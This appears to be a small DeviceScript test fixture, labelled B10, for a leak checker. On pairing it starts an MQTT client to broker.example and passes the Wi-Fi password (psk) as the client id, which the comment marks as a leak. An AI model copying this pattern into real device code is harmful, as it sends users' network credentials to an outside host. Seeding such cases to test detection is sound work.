// B10: as the client id of MQTT.
import { startMQTTClient } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883, clientId: psk }); // leak: wifi.psk
});
